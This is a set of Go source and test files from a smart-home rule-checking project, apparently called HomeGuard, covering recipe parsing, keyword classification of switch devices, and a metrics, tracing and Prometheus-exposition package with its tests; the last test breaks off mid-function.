	switch capName {
	case "switch":
		switch cmd {
		case "open", "unlock":
			return "on"
		case "close", "lock":
			return "off"
		case "siren":
			return "on"
		}
	case "lock":
		switch cmd {
		case "close", "off":
			return "lock"
		case "open", "on":
			return "unlock"
		}
	case "valve", "windowShade":
		switch cmd {
		case "on":
			return "open"
		case "off":
			return "close"
		}
	case "alarm":
		if cmd == "on" || cmd == "sound" {
			return "siren"
		}
	}
	return cmd
}

// ---------- description-based switch classification ----------

// typeKeywords is the tf lexicon for classifying capability.switch devices
// from app description text.
var typeKeywords = map[envmodel.DeviceType][]string{
	envmodel.LightDev:       {"light", "lights", "lamp", "lamps", "bulb", "bulbs", "lighting", "dim", "dimmer", "nightlight"},
	envmodel.TV:             {"tv", "television", "show", "channel"},
	envmodel.Heater:         {"heater", "heat", "heating", "warm", "warmer"},
	envmodel.AirConditioner: {"air", "conditioner", "cool", "cooling", "ac"},
	envmodel.Fan:            {"fan", "fans", "ventilation", "ventilate"},
	envmodel.WindowOpener:   {"window", "windows", "opener"},
	envmodel.Shade:          {"shade", "shades", "curtain", "curtains", "blind", "blinds"},
	envmodel.CoffeeMaker:    {"coffee", "kettle", "brew"},
	envmodel.Humidifier:     {"humidifier", "humidify"},
	envmodel.Dehumidifier:   {"dehumidifier"},
	envmodel.Speaker:        {"speaker", "music", "sound", "audio", "radio"},
	envmodel.Outlet:         {"outlet", "outlets", "plug", "plugs", "appliance", "appliances", "curling", "iron"},
	envmodel.Sprinkler:      {"sprinkler", "irrigation", "garden"},
	envmodel.Oven:           {"oven", "stove", "cooker"},
	envmodel.Siren:          {"siren", "alarm", "strobe"},
	envmodel.Camera:         {"camera", "record"},
	envmodel.WaterValveDev:  {"valve", "water"},
}

// ClassifySwitch scores description text against the type lexicon and
// returns the best-matching device type (Generic when nothing matches).
func ClassifySwitch(description string) envmodel.DeviceType {
	toks := Tokenize(description)
	counts := map[string]int{}
	for _, t := range toks {
		counts[t]++
	}
	best := envmodel.Generic
	bestScore := 0
	for dt, kws := range typeKeywords {
		score := 0
		for _, kw := range kws {
			score += counts[kw]
		}
		if score > bestScore || (score == bestScore && score > 0 && string(dt) < string(best)) {
			best, bestScore = dt, score
		}
	}
	if bestScore == 0 {
		return envmodel.Generic
	}
	return best
}
