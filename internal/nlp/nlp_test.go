package nlp

import (
	"strings"
	"testing"

	"homeguard/internal/envmodel"
	"homeguard/internal/rule"
)

func TestTokenize(t *testing.T) {
	got := Tokenize("If the Temperature rises above 80, turn-on the fan! (It's hot)")
	want := []string{"if", "the", "temperature", "rises", "above", "80", "turn", "on", "the", "fan", "its", "hot"}
	if len(got) != len(want) {
		t.Fatalf("tokens = %v", got)
	}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("token %d = %q, want %q", i, got[i], want[i])
		}
	}
}

func mustParse(t *testing.T, text string) *rule.Rule {
	t.Helper()
	rr, err := ParseRecipe("ifttt", text)
	if err != nil {
		t.Fatalf("ParseRecipe(%q): %v", text, err)
	}
	return rr.Rule
}

func TestNumericTriggerRecipe(t *testing.T) {
	r := mustParse(t, "If the temperature rises above 80 then turn on the fan")
	if r.Trigger.Subject != "tempSensor" || r.Trigger.Attribute != "temperature" {
		t.Errorf("trigger = %+v", r.Trigger)
	}
	c, ok := r.Trigger.Constraint.(rule.Cmp)
	if !ok || c.Op != rule.OpGt {
		t.Fatalf("constraint = %v", r.Trigger.Constraint)
	}
	if v, ok := c.R.(rule.IntVal); !ok || v != 80 {
		t.Errorf("threshold = %v", c.R)
	}
	if r.Action.Subject != "fan" || r.Action.Command != "on" {
		t.Errorf("action = %+v", r.Action)
	}
}

func TestDropsBelowRecipe(t *testing.T) {
	r := mustParse(t, "When the temperature drops below 15, turn on the heater")
	c := r.Trigger.Constraint.(rule.Cmp)
	if c.Op != rule.OpLt {
		t.Errorf("op = %v", c.Op)
	}
	if r.Action.Subject != "heater" || r.Action.Command != "on" {
		t.Errorf("action = %+v", r.Action)
	}
}

func TestMotionRecipe(t *testing.T) {
	r := mustParse(t, "If motion is detected then turn on the light")
	if r.Trigger.Subject != "motionSensor" {
		t.Errorf("trigger = %+v", r.Trigger)
	}
	if !strings.Contains(r.Trigger.Constraint.String(), "active") {
		t.Errorf("constraint = %v", r.Trigger.Constraint)
	}
	if r.Action.Subject != "light" || r.Action.Command != "on" {
		t.Errorf("action = %+v", r.Action)
	}
}

func TestLockRecipeNormalisesCommand(t *testing.T) {
	r := mustParse(t, "When presence leaves, lock the door")
	if r.Trigger.Subject != "presenceSensor" {
		t.Errorf("trigger = %+v", r.Trigger)
	}
	if r.Action.Subject != "door" || r.Action.Command != "lock" || r.Action.Capability != "lock" {
		t.Errorf("action = %+v", r.Action)
	}
}

func TestNotificationRecipe(t *testing.T) {
	r := mustParse(t, "If smoke is detected, send me a notification")
	if r.Action.Command != "sendSms" {
		t.Errorf("action = %+v", r.Action)
	}
}

func TestModeCondition(t *testing.T) {
	r := mustParse(t, "If motion is detected and the mode is night then turn on the light")
	found := false
	for _, p := range r.Condition.Predicates {
		if strings.Contains(p.String(), "location.mode") {
			found = true
		}
	}
	if !found {
		t.Errorf("mode condition missing: %+v", r.Condition.Predicates)
	}
}

func TestShadeRecipe(t *testing.T) {
	r := mustParse(t, "When the illuminance drops below 100 then open the curtain")
	if r.Action.Capability != "windowShade" || r.Action.Command != "open" {
		t.Errorf("action = %+v", r.Action)
	}
}

func TestUnparseableRecipes(t *testing.T) {
	for _, text := range []string{
		"hello world",
		"If the frobnicator blorps then defragment the hyperdrive",
		"turn on the fan", // no trigger clause separator
	} {
		if _, err := ParseRecipe("x", text); err == nil {
			t.Errorf("expected error for %q", text)
		}
	}
}

func TestRecipeRuleFeedsDetector(t *testing.T) {
	// The extracted rule uses the same representation as Groovy-extracted
	// rules, so it can flow into the detector (cross-platform detection).
	r := mustParse(t, "If the power exceeds 2000 then turn off the heater")
	if r.Trigger.EventVar() != "powerMeter.power" {
		t.Errorf("event var = %q", r.Trigger.EventVar())
	}
	f := r.TriggerConditionFormula()
	if f == nil {
		t.Fatal("formula should not be nil")
	}
}

func TestClassifySwitch(t *testing.T) {
	tests := []struct {
		desc string
		want envmodel.DeviceType
	}{
		{"Turns on the lights when motion is detected.", envmodel.LightDev},
		{"Turn your TV on when you arrive to catch a live show.", envmodel.TV},
		{"Keep the room warm by controlling a space heater.", envmodel.Heater},
		{"Turns off the curling iron outlet after 30 minutes.", envmodel.Outlet},
		{"Open and close your window opener based on weather.", envmodel.WindowOpener},
		{"Start brewing coffee when you wake up.", envmodel.CoffeeMaker},
		{"Runs the bathroom fan while the shower is hot.", envmodel.Fan},
		{"Something entirely unrelated.", envmodel.Generic},
	}
	for _, tt := range tests {
		if got := ClassifySwitch(tt.desc); got != tt.want {
			t.Errorf("ClassifySwitch(%q) = %v, want %v", tt.desc, got, tt.want)
		}
	}
}

func TestClassifyPrefersStrongerSignal(t *testing.T) {
	// "light" appears twice, "fan" once.
	got := ClassifySwitch("Light up the room: the light turns on with the ceiling fan.")
	if got != envmodel.LightDev {
		t.Errorf("got %v, want light", got)
	}
}
