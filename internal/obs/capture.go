package obs

import (
	"sort"
	"strconv"
	"sync"
	"time"
)

// Capture retains the span trees of the M most recent and the N slowest
// completed root spans, for serving at /debug/requests. Trees are
// rendered to SpanJSON at insertion time, so a captured tree is immutable
// and scraping never touches live spans.
type Capture struct {
	mu      sync.Mutex
	recent  []SpanJSON // ring, oldest first after rotation
	next    int        // ring write cursor
	filled  bool
	slowest []SpanJSON // kept sorted fastest-first, bounded
	maxRec  int
	maxSlow int
	total   uint64
}

// NewCapture returns a capture retaining up to recent most recent and
// slowest slowest requests. Non-positive sizes disable that side.
func NewCapture(recent, slowest int) *Capture {
	if recent < 0 {
		recent = 0
	}
	if slowest < 0 {
		slowest = 0
	}
	return &Capture{
		recent:  make([]SpanJSON, 0, recent),
		slowest: make([]SpanJSON, 0, slowest),
		maxRec:  recent,
		maxSlow: slowest,
	}
}

// Add records a completed root span. Called by Span.End; safe for
// concurrent use.
func (c *Capture) Add(root *Span) {
	if c == nil || root == nil {
		return
	}
	j := root.JSON()
	c.mu.Lock()
	defer c.mu.Unlock()
	c.total++
	if c.maxRec > 0 {
		if len(c.recent) < c.maxRec {
			c.recent = append(c.recent, j)
		} else {
			c.recent[c.next] = j
			c.filled = true
		}
		c.next = (c.next + 1) % c.maxRec
	}
	if c.maxSlow > 0 {
		if len(c.slowest) < c.maxSlow {
			c.slowest = append(c.slowest, j)
			sort.Slice(c.slowest, func(a, b int) bool {
				return c.slowest[a].DurationNS < c.slowest[b].DurationNS
			})
		} else if j.DurationNS > c.slowest[0].DurationNS {
			// Evict the fastest of the slowest set, insert in order.
			i := sort.Search(len(c.slowest), func(i int) bool {
				return c.slowest[i].DurationNS >= j.DurationNS
			})
			copy(c.slowest[:i-1], c.slowest[1:i])
			c.slowest[i-1] = j
		}
	}
}

// CaptureSnapshot is the /debug/requests payload.
type CaptureSnapshot struct {
	// Total counts every root span ever offered to the capture.
	Total uint64 `json:"total"`
	// Recent holds the most recent requests, newest first.
	Recent []SpanJSON `json:"recent"`
	// Slowest holds the slowest requests, slowest first.
	Slowest []SpanJSON `json:"slowest"`
}

// Snapshot returns a copy of the captured requests.
func (c *Capture) Snapshot() CaptureSnapshot {
	c.mu.Lock()
	defer c.mu.Unlock()
	s := CaptureSnapshot{Total: c.total}
	// Unroll the ring newest-first.
	n := len(c.recent)
	s.Recent = make([]SpanJSON, 0, n)
	for i := 1; i <= n; i++ {
		s.Recent = append(s.Recent, c.recent[(c.next-i+n)%n])
	}
	s.Slowest = make([]SpanJSON, len(c.slowest))
	for i := range c.slowest {
		s.Slowest[i] = c.slowest[len(c.slowest)-1-i]
	}
	return s
}

// SpanJSON is an immutable, JSON-marshalable rendering of a span tree.
type SpanJSON struct {
	Name       string            `json:"name"`
	Start      time.Time         `json:"start"`
	DurationNS int64             `json:"durationNs"`
	Attrs      map[string]string `json:"attrs,omitempty"`
	Children   []SpanJSON        `json:"children,omitempty"`
}

// Stage returns the child subtree named name (depth-first, first match),
// or false. Helper for tests asserting stage presence.
func (j SpanJSON) Stage(name string) (SpanJSON, bool) {
	if j.Name == name {
		return j, true
	}
	for _, c := range j.Children {
		if found, ok := c.Stage(name); ok {
			return found, true
		}
	}
	return SpanJSON{}, false
}

// JSON renders the span tree rooted at s. Unended spans render with their
// elapsed-so-far duration. Nil-safe (returns the zero value).
func (s *Span) JSON() SpanJSON {
	if s == nil {
		return SpanJSON{}
	}
	j := SpanJSON{Name: s.Name, Start: s.start, DurationNS: int64(s.dur)}
	if s.dur == 0 {
		j.DurationNS = int64(time.Since(s.start))
	}
	if len(s.attrs) > 0 {
		j.Attrs = make(map[string]string, len(s.attrs))
		for _, a := range s.attrs {
			if a.isInt {
				j.Attrs[a.key] = strconv.FormatInt(a.ival, 10)
			} else {
				j.Attrs[a.key] = a.sval
			}
		}
	}
	if len(s.children) > 0 {
		j.Children = make([]SpanJSON, len(s.children))
		for i, c := range s.children {
			j.Children[i] = c.JSON()
		}
	}
	return j
}
