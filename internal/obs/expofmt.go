package obs

import (
	"bufio"
	"fmt"
	"io"
	"strconv"
	"strings"
)

// Sample is one parsed exposition line: a metric name, its labels in
// order of appearance, and the sample value.
type Sample struct {
	Name   string
	Labels []Label
	Value  float64
}

// ParseExposition parses Prometheus text exposition format (0.0.4),
// validating every line: # HELP/# TYPE comment syntax, metric name and
// label charsets, label value escaping, and float sample values. It also
// enforces the structural rules a scraper relies on — a TYPE comment must
// precede its samples, a name may be typed only once, and histogram
// bucket counts must be cumulative. It returns every sample in order.
//
// This is the validation half of the format the Emit side produces; the
// exposition tests round-trip the registry through it, and cmd/promcheck
// runs it against a live daemon in CI.
func ParseExposition(r io.Reader) ([]Sample, error) {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)
	var samples []Sample
	typed := map[string]string{}      // base name -> type
	lastBucket := map[string]uint64{} // histogram name -> last cumulative le count
	lineNo := 0
	for sc.Scan() {
		lineNo++
		line := sc.Text()
		if line == "" {
			continue
		}
		if strings.HasPrefix(line, "#") {
			if err := parseComment(line, typed); err != nil {
				return nil, fmt.Errorf("line %d: %w", lineNo, err)
			}
			continue
		}
		s, err := parseSample(line)
		if err != nil {
			return nil, fmt.Errorf("line %d: %w", lineNo, err)
		}
		base := baseName(s.Name, typed)
		typ, ok := typed[base]
		if !ok {
			return nil, fmt.Errorf("line %d: sample %s has no preceding # TYPE", lineNo, s.Name)
		}
		if typ == "histogram" && strings.HasSuffix(s.Name, "_bucket") {
			if err := checkBucket(base, s, lastBucket); err != nil {
				return nil, fmt.Errorf("line %d: %w", lineNo, err)
			}
		}
		samples = append(samples, s)
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	return samples, nil
}

// parseComment validates a # HELP or # TYPE line and records TYPEs.
func parseComment(line string, typed map[string]string) error {
	fields := strings.SplitN(line, " ", 4)
	if len(fields) < 3 || fields[0] != "#" {
		return fmt.Errorf("malformed comment %q", line)
	}
	switch fields[1] {
	case "HELP":
		if !validName(fields[2]) {
			return fmt.Errorf("HELP for invalid metric name %q", fields[2])
		}
	case "TYPE":
		name := fields[2]
		if !validName(name) {
			return fmt.Errorf("TYPE for invalid metric name %q", name)
		}
		if len(fields) != 4 {
			return fmt.Errorf("TYPE %s missing type", name)
		}
		typ := fields[3]
		switch typ {
		case "counter", "gauge", "histogram", "summary", "untyped":
		default:
			return fmt.Errorf("TYPE %s has unknown type %q", name, typ)
		}
		if prev, ok := typed[name]; ok && prev != typ {
			return fmt.Errorf("metric %s re-typed %s -> %s", name, prev, typ)
		}
		typed[name] = typ
	default:
		return fmt.Errorf("unknown comment keyword %q", fields[1])
	}
	return nil
}

// parseSample parses one sample line: name[{labels}] value [timestamp].
func parseSample(line string) (Sample, error) {
	var s Sample
	i := 0
	for i < len(line) && isNameChar(line[i], i) {
		i++
	}
	if i == 0 {
		return s, fmt.Errorf("malformed sample %q: no metric name", line)
	}
	s.Name = line[:i]
	rest := line[i:]
	if strings.HasPrefix(rest, "{") {
		end, labels, err := parseLabels(rest)
		if err != nil {
			return s, fmt.Errorf("sample %s: %w", s.Name, err)
		}
		s.Labels = labels
		rest = rest[end:]
	}
	rest = strings.TrimPrefix(rest, " ")
	// An optional timestamp may follow the value.
	valStr, _, _ := strings.Cut(rest, " ")
	v, err := strconv.ParseFloat(valStr, 64)
	if err != nil {
		return s, fmt.Errorf("sample %s: bad value %q", s.Name, valStr)
	}
	s.Value = v
	return s, nil
}

// parseLabels parses a {name="value",...} block starting at s[0]=='{' and
// returns the index just past the closing brace.
func parseLabels(s string) (int, []Label, error) {
	var labels []Label
	i := 1 // past '{'
	for {
		if i >= len(s) {
			return 0, nil, fmt.Errorf("unterminated label block")
		}
		if s[i] == '}' {
			return i + 1, labels, nil
		}
		if len(labels) > 0 {
			if s[i] != ',' {
				return 0, nil, fmt.Errorf("expected ',' in label block at %q", s[i:])
			}
			i++
		}
		start := i
		for i < len(s) && isNameChar(s[i], i-start) {
			i++
		}
		name := s[start:i]
		if !validName(name) {
			return 0, nil, fmt.Errorf("invalid label name %q", name)
		}
		if i >= len(s) || s[i] != '=' {
			return 0, nil, fmt.Errorf("label %s missing '='", name)
		}
		i++
		if i >= len(s) || s[i] != '"' {
			return 0, nil, fmt.Errorf("label %s value not quoted", name)
		}
		i++
		var val strings.Builder
		for {
			if i >= len(s) {
				return 0, nil, fmt.Errorf("label %s value unterminated", name)
			}
			c := s[i]
			if c == '"' {
				i++
				break
			}
			if c == '\\' {
				if i+1 >= len(s) {
					return 0, nil, fmt.Errorf("label %s value has trailing backslash", name)
				}
				switch s[i+1] {
				case '\\':
					val.WriteByte('\\')
				case '"':
					val.WriteByte('"')
				case 'n':
					val.WriteByte('\n')
				default:
					return 0, nil, fmt.Errorf("label %s has invalid escape \\%c", name, s[i+1])
				}
				i += 2
				continue
			}
			val.WriteByte(c)
			i++
		}
		labels = append(labels, Label{Name: name, Value: val.String()})
	}
}

func isNameChar(c byte, pos int) bool {
	return c == '_' || c == ':' ||
		(c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
		(c >= '0' && c <= '9' && pos > 0)
}

// baseName strips the histogram/summary sample suffixes so _bucket, _sum
// and _count samples resolve to their declared TYPE.
func baseName(name string, typed map[string]string) string {
	if _, ok := typed[name]; ok {
		return name
	}
	for _, suf := range []string{"_bucket", "_sum", "_count"} {
		if b, found := strings.CutSuffix(name, suf); found {
			if t, ok := typed[b]; ok && (t == "histogram" || t == "summary") {
				return b
			}
		}
	}
	return name
}

// checkBucket enforces cumulative, le-labeled histogram buckets.
func checkBucket(base string, s Sample, lastBucket map[string]uint64) error {
	var le string
	for _, l := range s.Labels {
		if l.Name == "le" {
			le = l.Value
		}
	}
	if le == "" {
		return fmt.Errorf("histogram %s bucket missing le label", base)
	}
	if le != "+Inf" {
		if _, err := strconv.ParseFloat(le, 64); err != nil {
			return fmt.Errorf("histogram %s has bad le %q", base, le)
		}
	}
	cum := uint64(s.Value)
	if prev, ok := lastBucket[base]; ok && le != "+Inf" && cum < prev {
		return fmt.Errorf("histogram %s buckets not cumulative (%d after %d)", base, cum, prev)
	}
	if cum64 := lastBucket[base]; le == "+Inf" && s.Value < float64(cum64) {
		return fmt.Errorf("histogram %s +Inf bucket below last bound (%v < %d)", base, s.Value, cum64)
	}
	if le == "+Inf" {
		delete(lastBucket, base) // next histogram series starts fresh
	} else {
		lastBucket[base] = cum
	}
	return nil
}
