package obs

import (
	"sync/atomic"
	"time"
)

// The latency histogram has NumBuckets exponential buckets whose upper
// bounds start at BucketBase and double per bucket; the last bucket is
// effectively unbounded (1µs … ~9 minutes of resolution). Fixed buckets
// keep observation O(1) and memory bounded at fleet scale, at the price
// of quantiles quantized to bucket bounds — fine for service dashboards,
// and exactly what the Prometheus histogram convention expects.
const (
	NumBuckets = 40
	BucketBase = time.Microsecond
)

// BucketBound returns bucket i's inclusive upper bound.
func BucketBound(i int) time.Duration { return BucketBase << uint(i) }

// Histogram is a fixed-bucket latency histogram safe for concurrent use:
// observation is two atomic adds, snapshotting reads the buckets without
// locking (counters are monotonic, so a racing snapshot is merely a
// moment between observations).
type Histogram struct {
	counts [NumBuckets]atomic.Uint64
	count  atomic.Uint64
	sumNS  atomic.Int64
}

// bucketIndex maps a duration to its bucket: the smallest i with
// d <= BucketBase<<i, clamped to the last bucket.
func bucketIndex(d time.Duration) int {
	if d < BucketBase {
		return 0
	}
	i := 0
	for b := BucketBase; b < d && i < NumBuckets-1; b <<= 1 {
		i++
	}
	return i
}

// Observe records one duration.
func (h *Histogram) Observe(d time.Duration) {
	h.counts[bucketIndex(d)].Add(1)
	h.count.Add(1)
	h.sumNS.Add(int64(d))
}

// Snapshot returns a point-in-time copy of the histogram state.
func (h *Histogram) Snapshot() HistogramSnapshot {
	var s HistogramSnapshot
	for i := range h.counts {
		s.Counts[i] = h.counts[i].Load()
	}
	s.Count = h.count.Load()
	s.SumNS = h.sumNS.Load()
	// A snapshot taken between an Observe's bucket add and count add can
	// see the bucket sum ahead of the total; reconcile so cumulative
	// bucket counts never exceed _count in the exposition.
	var bucketed uint64
	for _, c := range s.Counts {
		bucketed += c
	}
	if bucketed > s.Count {
		s.Count = bucketed
	}
	return s
}

// HistogramSnapshot is an immutable histogram state.
type HistogramSnapshot struct {
	Counts [NumBuckets]uint64
	Count  uint64
	SumNS  int64
}

// Quantile returns the upper bound of the bucket containing the q-th
// observation (0 < q <= 1), or 0 when empty. Nearest-rank with ceiling,
// so p99 of 10 observations is the 10th — the tail is never understated.
func (s HistogramSnapshot) Quantile(q float64) time.Duration {
	if s.Count == 0 {
		return 0
	}
	rank := uint64(float64(s.Count) * q)
	if float64(rank) < float64(s.Count)*q {
		rank++
	}
	if rank == 0 {
		rank = 1
	}
	if rank > s.Count {
		rank = s.Count
	}
	var cum uint64
	for i, c := range s.Counts {
		cum += c
		if cum >= rank {
			return BucketBound(i)
		}
	}
	return BucketBound(NumBuckets - 1)
}

// Quantile is Snapshot().Quantile for callers that need one quantile.
func (h *Histogram) Quantile(q float64) time.Duration {
	return h.Snapshot().Quantile(q)
}
