// Package obs is HomeGuard's zero-dependency observability core: a
// metrics registry with Prometheus text exposition, a lightweight span
// tracer that is allocation-free when disabled, and a bounded capture of
// slow-request span trees. Every subsystem of the request path — fleet,
// extraction cache, verdict cache, detector, footprint index, solver,
// audit engine — publishes into one Registry under stable metric names,
// and one Tracer threads per-stage timing through an entire install.
//
// # Design constraints
//
// The package imports only the standard library, so any internal package
// (including internal/detect, which sits below the fleet) can depend on
// it without cycles. Tracing must cost nothing when disabled: a disabled
// Tracer returns a nil *Span, and every Span method is a nil-receiver
// no-op, so instrumented hot paths pay a nil check and nothing else —
// BenchmarkDetectPair stays at 0 allocs/op with tracing compiled in.
//
// # Metric sources
//
// Hot-path counters stay where they are (detector stats behind the
// fleet's per-home locks, cache counters behind cache mutexes): the
// registry reads them at scrape time through registered Collectors, so
// instrumentation adds no contention to the request path. Metrics the
// registry owns itself (Counter, Gauge, Histogram) are atomic and safe
// to update from any goroutine.
package obs

// Observer bundles the three observability facilities one process
// shares: the metrics registry, the span tracer and the slow-request
// capture. Pass one Observer to the fleet (fleet.Options.Obs), the audit
// engine and the daemon so they publish into the same registry and trace
// into the same capture.
type Observer struct {
	Registry *Registry
	Tracer   *Tracer
	Capture  *Capture
}

// DefaultCaptureRecent and DefaultCaptureSlowest size NewObserver's
// slow-request capture: the span trees of the 32 most recent and the 32
// slowest traced requests are retained.
const (
	DefaultCaptureRecent  = 32
	DefaultCaptureSlowest = 32
)

// NewObserver returns an Observer with an empty registry, a disabled
// tracer and a default-sized capture wired to the tracer. Enable tracing
// with o.Tracer.SetEnabled(true).
func NewObserver() *Observer {
	o := &Observer{
		Registry: NewRegistry(),
		Tracer:   NewTracer(),
		Capture:  NewCapture(DefaultCaptureRecent, DefaultCaptureSlowest),
	}
	o.Tracer.SetCapture(o.Capture)
	return o
}
