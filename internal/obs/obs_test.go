package obs

import (
	"bytes"
	"context"
	"fmt"
	"math/rand"
	"strings"
	"testing"
	"time"
)

func TestRegistryExpositionRoundTrip(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("homeguard_test_total", "A test counter.")
	c.Add(41)
	c.Inc()
	g := r.Gauge("homeguard_test_entries", "A test gauge.")
	g.Set(7)
	g.Add(-2)
	h := r.Histogram("homeguard_test_duration_seconds", "A test histogram.")
	h.Observe(3 * time.Microsecond)
	h.Observe(900 * time.Millisecond)
	r.RegisterCollector(func(e *Emit) {
		e.Counter("homeguard_threats_total", "Threats by kind.", 3,
			Label{Name: "kind", Value: "race"})
		e.Counter("homeguard_threats_total", "Threats by kind.", 2,
			Label{Name: "kind", Value: `odd"kind\with
newline`})
	})

	var buf bytes.Buffer
	if err := r.WritePrometheus(&buf); err != nil {
		t.Fatalf("WritePrometheus: %v", err)
	}
	samples, err := ParseExposition(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("ParseExposition:\n%s\nerror: %v", buf.String(), err)
	}

	byName := map[string][]Sample{}
	for _, s := range samples {
		byName[s.Name] = append(byName[s.Name], s)
	}
	if v := byName["homeguard_test_total"][0].Value; v != 42 {
		t.Errorf("counter = %v, want 42", v)
	}
	if v := byName["homeguard_test_entries"][0].Value; v != 5 {
		t.Errorf("gauge = %v, want 5", v)
	}
	if v := byName["homeguard_test_duration_seconds_count"][0].Value; v != 2 {
		t.Errorf("histogram _count = %v, want 2", v)
	}
	sum := byName["homeguard_test_duration_seconds_sum"][0].Value
	if sum < 0.9 || sum > 0.91 {
		t.Errorf("histogram _sum = %v, want ~0.900003", sum)
	}
	if n := len(byName["homeguard_test_duration_seconds_bucket"]); n != NumBuckets+1 {
		t.Errorf("bucket samples = %d, want %d", n, NumBuckets+1)
	}
	kinds := byName["homeguard_threats_total"]
	if len(kinds) != 2 {
		t.Fatalf("labeled counter samples = %d, want 2", len(kinds))
	}
	if got := kinds[1].Labels[0].Value; got != "odd\"kind\\with\nnewline" {
		t.Errorf("label round-trip = %q", got)
	}
}

func TestRegistryIdempotentAndTypeConflicts(t *testing.T) {
	r := NewRegistry()
	a := r.Counter("x_total", "first")
	b := r.Counter("x_total", "second")
	if a != b {
		t.Error("re-registering a counter returned a new instance")
	}
	r.RegisterCollector(func(e *Emit) {
		e.Gauge("x_total", "conflicting", 1) // counter re-emitted as gauge
	})
	if err := r.WritePrometheus(&bytes.Buffer{}); err == nil {
		t.Error("type-conflicting emission did not error")
	}

	r2 := NewRegistry()
	r2.RegisterCollector(func(e *Emit) {
		e.Counter("bad name", "broken", 1)
	})
	if err := r2.WritePrometheus(&bytes.Buffer{}); err == nil {
		t.Error("invalid metric name did not error")
	}
}

func TestExpositionMonotonicCounters(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("homeguard_mono_total", "counts up")
	scrape := func() float64 {
		var buf bytes.Buffer
		if err := r.WritePrometheus(&buf); err != nil {
			t.Fatal(err)
		}
		samples, err := ParseExposition(&buf)
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range samples {
			if s.Name == "homeguard_mono_total" {
				return s.Value
			}
		}
		t.Fatal("counter not in exposition")
		return 0
	}
	prev := scrape()
	for i := 0; i < 5; i++ {
		c.Add(uint64(i))
		if v := scrape(); v < prev {
			t.Fatalf("counter went backwards: %v -> %v", prev, v)
		} else {
			prev = v
		}
	}
}

func TestParseExpositionRejectsMalformed(t *testing.T) {
	bad := []string{
		"no_type_comment 1\n",
		"# TYPE x counter\nx{le=\"0.1} 1\n",                                       // unterminated label value
		"# TYPE x counter\nx 1e\n",                                                // bad float
		"# TYPE x wibble\nx 1\n",                                                  // unknown type
		"# TYPE x counter\n# TYPE x gauge\nx 1\n",                                 // re-typed
		"# TYPE h histogram\nh_bucket{le=\"abc\"} 1\n",                            // bad le
		"# TYPE h histogram\nh_bucket 1\n",                                        // missing le
		"# TYPE x counter\nx{l=\"a\\q\"} 1\n",                                     // bad escape
		"# TYPE h histogram\nh_bucket{le=\"0.001\"} 5\nh_bucket{le=\"0.01\"} 3\n", // not cumulative
	}
	for _, in := range bad {
		if _, err := ParseExposition(strings.NewReader(in)); err == nil {
			t.Errorf("accepted malformed exposition %q", in)
		}
	}
}

func TestHistogramQuantileAccuracy(t *testing.T) {
	// A known distribution: uniform over [1ms, 100ms). With exponential
	// buckets the quantile is quantized to the containing bucket's upper
	// bound, so assert the estimate brackets the true quantile from above
	// within one bucket (a factor of 2).
	var h Histogram
	rng := rand.New(rand.NewSource(1))
	const n = 100000
	for i := 0; i < n; i++ {
		h.Observe(time.Millisecond + time.Duration(rng.Int63n(int64(99*time.Millisecond))))
	}
	s := h.Snapshot()
	if s.Count != n {
		t.Fatalf("count = %d, want %d", s.Count, n)
	}
	for _, q := range []float64{0.5, 0.9, 0.99} {
		truth := time.Millisecond + time.Duration(q*float64(99*time.Millisecond))
		got := s.Quantile(q)
		if got < truth {
			t.Errorf("q%v = %v understates true quantile %v", q, got, truth)
		}
		if got > 2*truth {
			t.Errorf("q%v = %v more than one bucket above true quantile %v", q, got, truth)
		}
	}
}

func TestHistogramQuantileEdges(t *testing.T) {
	var h Histogram
	if got := h.Quantile(0.99); got != 0 {
		t.Errorf("empty quantile = %v, want 0", got)
	}
	h.Observe(0)
	if got := h.Quantile(0.5); got != BucketBound(0) {
		t.Errorf("sub-base quantile = %v, want %v", got, BucketBound(0))
	}
	var h2 Histogram
	h2.Observe(100 * time.Hour) // beyond the last bound
	if got := h2.Quantile(1); got != BucketBound(NumBuckets-1) {
		t.Errorf("overflow quantile = %v, want last bound %v", got, BucketBound(NumBuckets-1))
	}
}

// TestLatencyQuantileCoversTail preserves the contract the fleet's
// original latencyHist pinned: with 10 observations and one large
// outlier, p99 must land on the outlier's bucket (nearest-rank with
// ceiling never understates the tail).
func TestLatencyQuantileCoversTail(t *testing.T) {
	var h Histogram
	for i := 0; i < 9; i++ {
		h.Observe(2 * time.Microsecond)
	}
	h.Observe(80 * time.Millisecond)
	got := h.Quantile(0.99)
	if got < 80*time.Millisecond {
		t.Errorf("p99 = %v understates the 80ms outlier", got)
	}
}

func TestSpanTreeAndCapture(t *testing.T) {
	o := NewObserver()
	o.Tracer.SetEnabled(true)
	root := o.Tracer.Start("install")
	root.SetStr("home", "h1")
	ext := root.Child("extract")
	ext.End()
	cmp := root.Child("compile")
	sol := cmp.Child("solve")
	sol.SetInt("nodes", 12)
	sol.End()
	cmp.End()
	root.End()

	snap := o.Capture.Snapshot()
	if snap.Total != 1 || len(snap.Recent) != 1 || len(snap.Slowest) != 1 {
		t.Fatalf("capture snapshot = %+v, want one request", snap)
	}
	tree := snap.Recent[0]
	if tree.Name != "install" || tree.Attrs["home"] != "h1" {
		t.Errorf("root = %+v", tree)
	}
	for _, stage := range []string{"extract", "compile", "solve"} {
		if _, ok := tree.Stage(stage); !ok {
			t.Errorf("span tree missing stage %q", stage)
		}
	}
	if s, _ := tree.Stage("solve"); s.Attrs["nodes"] != "12" {
		t.Errorf("solve attrs = %v", s.Attrs)
	}
	if tree.DurationNS <= 0 {
		t.Errorf("root duration = %d, want > 0", tree.DurationNS)
	}
}

func TestCaptureRetainsSlowestAndRecent(t *testing.T) {
	c := NewCapture(2, 3)
	tr := NewTracer()
	tr.SetEnabled(true)
	mk := func(name string, d time.Duration) {
		sp := tr.Start(name)
		sp.dur = d // direct to keep the test deterministic
		j := sp
		c.Add(j)
	}
	mk("a", 10*time.Millisecond)
	mk("b", 50*time.Millisecond)
	mk("c", 5*time.Millisecond)
	mk("d", 40*time.Millisecond)
	mk("e", 1*time.Millisecond)

	snap := c.Snapshot()
	if snap.Total != 5 {
